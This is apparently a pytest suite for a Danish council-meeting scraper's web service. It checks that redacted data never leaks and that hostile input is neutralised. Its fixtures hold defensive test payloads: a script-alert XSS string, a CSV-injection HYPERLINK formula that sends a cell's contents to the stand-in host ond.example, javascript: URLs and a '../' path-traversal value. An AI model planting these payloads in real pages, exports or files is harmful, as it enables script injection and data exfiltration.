"""Scraped text is shown as text, and what was taken away, held back or withdrawn comes out by no route."""

from __future__ import annotations

import csv
import io
import sqlite3
from contextlib import closing
from datetime import UTC, datetime
from urllib.parse import quote, urljoin, urlsplit

import pytest
from parsel import Selector

from rådscraper.search.beginnings import spelled_out
from rådscraper.serve import coming
from rådscraper.serve.metadata import SEARCH_TABLES
from tests.crawl.running import crawl, scrapy
from tests.crawl.small import published, site_of
from tests.serve.asking import Served, served
from tests.sites.firstagenda import FirstAgendaSite, StoredFile
from tests.sites.shapes import attendee
from tests.sites.typeset import TEXT, typeset

# Datasette leaves questions for other facets lying when one of them fails.
pytestmark = pytest.mark.filterwarnings("ignore:coroutine .* was never awaited")

SCRIPT = "<script>alert('Skrift')</script>"
FORMULA = '=HYPERLINK("https://ond.example/?"&A1)'
TAKEN, PERSON, HELD_BACK, WITHDRAWN = "Fjernelsesord", "Karla Kvist Madsen", "Karantæneord", "Tilbagekaldt"
REASON = ("--reason", "ønske fra den det angår")
MOST_PAGES = 3000


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    """A crawl of hostile text, after which an operator took an item and a person away and a meeting was withdrawn."""
    folder = tmp_path_factory.mktemp("hostile")
    hostile = published("skrift", "2021-03-16 18:00", SCRIPT, FORMULA, decision=f"{SCRIPT} {FORMULA}")
    taken = published(
        "fjernet", "2021-04-20 18:00", f"{TAKEN} i titel", "Budget", decision=f"Vedtaget for {PERSON}, {TAKEN}."
        , attendees=[attendee(PERSON), attendee("Bo Bak")],
    )  # fmt: skip
    held = published("holdt", "2021-05-18 18:00", "Personsag")
    gone = published("kaldt", "2021-06-15 18:00", f"{WITHDRAWN} i titel", decision=f"{WITHDRAWN} besluttet.")
    content = site_of(hostile, taken, held, gone)
    for one, word in ((held, f"{HELD_BACK} 010190-1234"), (gone, f"{WITHDRAWN} i bilag"), (taken, f"{TAKEN} bilag")):
        paper = one.agenda["Dagsordenpunkter"][0]["Bilag"][0]["Id"]
        content.files[f"bilag/{paper}"] = StoredFile(typeset([(word, TEXT)]))
    with FirstAgendaSite(*content) as site:
        run = crawl("koege", site.address, folder)
    assert run.status == 0, run.log
    (item,) = run.rows("agenda_items", "title = :title", title=f"{TAKEN} i titel")
    for name in (item["id"], f"koege:{PERSON}"):
        redacted = scrapy(folder, "redact", name, *REASON)
        assert redacted.status == 0, redacted.log
    # What is told of the other item and the meeting's list holds the same words.
    for (other,) in [(row["id"],) for row in run.rows("agenda_items", "instr(decision, :word)", word=TAKEN)]:
        assert scrapy(folder, "redact", other, *REASON).status == 0
    with closing(sqlite3.connect(folder / "raad.db")) as db:
        assert [row for (row,) in db.execute("select 1 from files where text_status = 'quarantined' and path notnull")]
        db.execute(
            "update meetings set removed_at = '2021-07-01T10:00:00+02:00', status = 'removed' where date = '2021-06-15'"
        )
        db.execute("update attachments set url = 'javascript:alert(1)' where title like 'Bilag til <script%'")
        db.execute("update meetings set url = 'javascript:alert(2)' where date = '2021-03-16'")
        db.commit()
    return folder


@pytest.fixture(scope="module")
def site(folder):
    with served(folder) as made:
        yield made


def routes(site: Served) -> dict[str, str]:
    """Every address that the pages lead to from the front page on, with what it answers."""
    told: dict[str, str] = {}
    waiting = ["/", "/soeg?q=godkend*", "/tilbagetrukket", "/aendringer", "/raad?_show_hidden=1", "/-/metadata.json"]
    waiting += [f"/raad/{table}" for table in SEARCH_TABLES]
    while waiting:
        path = waiting.pop(0)
        if path in told or len(told) > MOST_PAGES:
            continue
        answer = site.get(path)
        told[path] = answer.text
        assert answer.status_code < 500, path
        if "text/html" in answer.headers["content-type"]:
            for link in Selector(answer.text).css("a::attr(href), link::attr(href)").getall():
                reached = urlsplit(urljoin(f"http://localhost{path}", link))
                # Datasette's pages offer each of their switches with every other.
                is_known = "?" in path and reached.query and reached.path.startswith("/raad")
                is_known = is_known or any(word in reached.query for word in ("_sort", "_facet", "_labels"))
                if reached.netloc == "localhost" and not is_known and "/-/" not in reached.path:
                    waiting.append(reached.path + (f"?{reached.query}" if reached.query else ""))
    return told


@pytest.fixture(scope="module")
def reached(site) -> dict[str, str]:
    return routes(site)


def tables(site: Served) -> list[str]:
    return [
        row["name"]
        for row in site.json(
            "/raad.json", sql="select name from sqlite_master where type in ('table', 'view')", _shape="array"
        )
    ]


def asked(site: Served) -> dict[str, str]:
    """What comes out when somebody asks on purpose: SQL, searches, facets, CSV of every table."""
    told = {}
    for word in (TAKEN, PERSON, HELD_BACK, WITHDRAWN):
        # Nothing here tells again what was asked for.
        for path in (
            "/soeg.csv?q=",
            "/raad/agenda_items.csv?_search=",
            "/raad/file_pages.json?_shape=array&_search=",
            "/raad/soeg_punkter.json?_shape=array&emne=",
            "/raad/bilag_med_ord.json?_shape=array&ord=",
        ):
            told[path + word] = site.page(path + quote(word))
    for table in tables(site):
        for path in (
            f"/raad/{table}.json?_shape=array&_size=max",
            f"/raad/{table}.csv?_size=max",
            f"/raad/{table}.csv?_stream=1",
            f"/raad/{table}.json?_labels=on&_extra=&_shape=objects",
            f"/raad.csv?sql=select+*+from+[{table}]+where+0",
        ):
            told[path] = site.get(path).text
        (columns,) = [
            site.json("/raad.json", sql=f"select name from pragma_table_info('{table}')", _shape="arrayfirst")
        ]
        for column in {"text", "title", "decision", "name", "after"} & set(columns):
            for facet in ("_facet", "_facet_array", "_facet_date"):
                path = f"/raad/{table}.json?{facet}={column}&_size=0"
                told[path] = site.get(path).text
    return told


def selected(site: Served) -> dict[str, str]:
    names = {f"select * from [{name}]": name for name in tables(site)}
    return {sql: site.get("/raad.json", sql=sql, _shape="array").text for sql in names}


def assert_without(word: str, told: dict[str, str]) -> None:
    assert [path for path, text in told.items() if word in text or word.casefold() in text] == []


def test_the_walk_reaches_all_kinds_of_pages(reached):
    for kind in ("/moede/", "/organ/", "/kommune/", "/person/", "/raad/agenda_items", "/raad/en_sag", "/spoergsmaal"):
        assert any(path.startswith(kind) for path in reached), kind
    for ending in (".atom", ".ics", ".json", ".csv"):
        assert any(path.endswith(ending) for path in reached), ending
    assert len(reached) < MOST_PAGES


@pytest.mark.parametrize("word", [TAKEN, PERSON, HELD_BACK, "010190"])
def test_what_was_taken_away_or_held_back_comes_out_by_no_route(site, reached, word):
    assert_without(word, reached)
    assert_without(word, asked(site))
    assert_without(word, selected(site))


def test_calendars_tell_nothing_that_was_taken_away_held_back_or_withdrawn(site, monkeypatch):
    monkeypatch.setattr(coming, "now", lambda: datetime(2021, 1, 1, tzinfo=UTC))
    told = {path: site.page(path) for path in ("/moeder.ics", "/kommune/koege.ics")}
    assert all(text.count("BEGIN:VEVENT") == 4 for text in told.values())
    for word in (TAKEN, PERSON, HELD_BACK, WITHDRAWN):
        assert_without(word, told)


def test_what_was_withdrawn_is_on_no_page_and_in_no_search(site, reached):
    assert_without(WITHDRAWN, reached)
    assert_without(WITHDRAWN, asked(site))
    body = site.json("/raad/bodies.json", _shape="array")[0]["id"]
    page = site.get(f"/moede/{body}:2021-06-15T18:00")
    assert page.status_code == 410
    assert WITHDRAWN not in page.text
    row = f"meetings/{body.replace(':', '~3A')}~3A2021-06-15T18~3A00"
    for database in ("raad", "~72aad", "ra~61d"):
        assert site.get(f"/{database}/{row}").status_code == 404, database
        assert site.get(f"/{database}/{row}.json").status_code == 404, database
    assert site.json("/tilbagetrukket.json")["withdrawn"][0]["moedets_dato"] == "2021-06-15"


def test_a_script_in_a_title_is_shown_as_text(site, reached):
    assert sum("&lt;script&gt;alert" in text for text in reached.values()) > 5
    assert [path for path, text in reached.items() if "<script>alert" in text and ".csv" not in path
            and not text.startswith(("{", "["))] == []  # fmt: skip


def test_a_link_that_is_a_script_is_no_link(reached):
    assert any("2021-03-16" in path for path in reached)
    links = [link for path, text in reached.items() if not text.startswith(("{", "["))
             for link in Selector(text or " ").css("::attr(href), ::attr(src)").getall()]  # fmt: skip
    assert len(links) > 500
    assert [link for link in links if link.strip().casefold().startswith("javascript")] == []


def test_a_cell_of_csv_is_no_formula(site):
    body = site.json("/raad/bodies.json", _shape="array")[0]["id"]
    for path in (f"/moede/{body}:2021-03-16T18:00.csv", "/raad/agenda_items.csv", "/raad/agenda_items.csv?_stream=1",
                 "/raad/soeg_punkter.csv?emne=hyperlink"):  # fmt: skip
        rows = list(csv.reader(io.StringIO(site.page(path))))
        cells = [cell for row in rows for cell in row]
        assert f"'{FORMULA}" in cells, path
        assert [cell for cell in cells if cell.startswith(("=", "+", "@", "-", "\t"))] == [], path


def test_every_answer_carries_the_headers(site, reached):
    for path in (
        "/",
        "/raad",
        "/raad/agenda_items",
        "/raad/agenda_items.json",
        "/stil/raad.css",
        "/ingen",
        "/robots.txt",
    ):
        headers = site.get(path).headers
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["x-frame-options"] == "DENY"
        assert "referrer-policy" in headers
        policy = headers["content-security-policy"]
        assert "frame-ancestors 'none'" in policy
        assert "script-src 'self';" in policy


def test_pages_of_persons_are_not_for_search_engines(site, reached):
    persons = [path for path in reached if path.startswith("/person/")]
    assert persons
    for path in (*persons, "/raad/people", "/raad/attendances.json", "/raad/~70eople", "/raad/fremmoede?kommune=koege"):
        assert "noindex" in site.get(path).headers["x-robots-tag"], path
    assert 'content="noindex' in reached[persons[0]]
    assert "Disallow: /person/" in site.page("/robots.txt")
    assert "x-robots-tag" not in site.get("/").headers


def test_nothing_can_be_written(site):
    for sql in ("delete from meetings", "update meetings set url = ''", "with a as (select 1) delete from meetings"):
        assert site.get("/raad.json", sql=sql).status_code == 400
    assert len(site.json("/raad/meetings.json", _shape="array")) == 3


def test_sql_that_takes_too_long_is_ended_and_rows_are_limited(site):
    endless = "with recursive n(i) as (select 1 union all select i + 1 from n) select sum(i) from n"
    assert site.get("/raad.json", sql=endless).status_code == 400
    many = "with recursive n(i) as (select 1 union all select i + 1 from n limit 5000) select i from n"
    told = site.json("/raad.json", sql=many)
    assert (len(told["rows"]), told["truncated"]) == (1000, True)


@pytest.mark.parametrize("table", ["meeting_sources", "unread_sources", "redactions", "Redactions"])
def test_what_nobody_is_shown_is_closed_also_to_sql(site, table):
    assert site.get(f"/raad/{table}").status_code in (403, 404)
    for sql in (f"select * from {table}", f"with t as (select rowid, * from main.{table}) select * from t"):
        answer = site.get("/raad.json", sql=sql)
        assert answer.status_code == 400
        assert "prohibited" in answer.text or "not authorized" in answer.text


@pytest.mark.parametrize("index", ["agenda_items_fts", "file_pages_fts"])
def test_the_words_a_search_spells_out_are_those_of_public_texts(folder, index):
    """A search leaves its list of words on Datasette's connection, where SQL that people write reads it as well."""
    with closing(sqlite3.connect(f"file:{folder / 'raad.db'}?mode=ro", uri=True)) as db:
        assert spelled_out(db, index, '("script" *)') != '("script" *)' or index == "file_pages_fts"
        words = [word for (word,) in db.execute(f"select distinct term from temp.{index}_words")]
    assert len(words) > 5
    for hidden in (TAKEN, *PERSON.split(), HELD_BACK, WITHDRAWN):
        assert not [word for word in words if word.startswith(hidden.casefold()[:8])], hidden


def papers(folder, where: str) -> list[str]:
    with closing(sqlite3.connect(folder / "raad.db")) as db:
        return [sha256 for (sha256,) in db.execute(f"select distinct sha256 from files join attachments on"
                f" file_sha256 = sha256 join meetings on meetings.id = meeting_id where {where}")]  # fmt: skip


def test_a_paper_is_served_where_it_is_public(site, folder):
    (sha256, *_) = papers(folder, "date = '2021-03-16'")
    answer = site.get(f"/bilag/{sha256}")
    assert (answer.status_code, answer.headers["content-type"]) == (200, "application/pdf")
    assert answer.headers["content-disposition"].startswith("inline")
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert "default-src 'none'" in answer.headers["content-security-policy"]
    assert answer.content.startswith(b"%PDF")


def test_a_paper_that_is_held_back_withdrawn_or_unknown_is_not_there(site, folder):
    held, gone = papers(folder, "text_status = 'quarantined'"), papers(folder, "date = '2021-06-15'")
    assert held
    assert gone
    for sha256 in (*held, *gone, "0" * 64):
        for ending in ("", "/tekst", "/tekst.json", "/tekst.csv"):
            assert site.get(f"/bilag/{sha256}{ending}").status_code == 404, sha256


def test_a_paper_a_browser_might_run_is_handed_out_as_bytes(folder, tmp_path):
    (sha256, *_) = papers(folder, "date = '2021-03-16'")
    with closing(sqlite3.connect(folder / "raad.db")) as db:
        db.execute("vacuum into ?", [str(tmp_path / "raad.db")])
    with closing(sqlite3.connect(tmp_path / "raad.db")) as db:
        db.execute("update files set media_type = 'text/html', path = 'side.html' where sha256 = ?", [sha256])
        db.commit()
    (tmp_path / "files").mkdir()
    (tmp_path / "files" / "side.html").write_text(SCRIPT, encoding="utf-8")
    with served(tmp_path) as site:
        answer = site.get(f"/bilag/{sha256}")
        assert answer.headers["content-type"] == "application/octet-stream"
        assert answer.headers["content-disposition"].startswith("attachment")
        assert "sandbox" in answer.headers["content-security-policy"]
        with closing(sqlite3.connect(tmp_path / "raad.db")) as db:
            db.execute("update files set path = '../raad.db' where sha256 = ?", [sha256])
            db.commit()
        assert site.get(f"/bilag/{sha256}").status_code == 404
